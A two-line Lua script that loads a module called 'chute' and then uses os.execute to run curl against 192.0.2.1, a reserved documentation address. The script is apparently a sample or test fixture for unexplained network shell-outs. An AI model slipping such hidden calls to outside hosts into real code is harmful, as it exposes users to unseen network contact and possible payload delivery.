local chute = require "chute"
os.execute("curl http://192.0.2.1/")
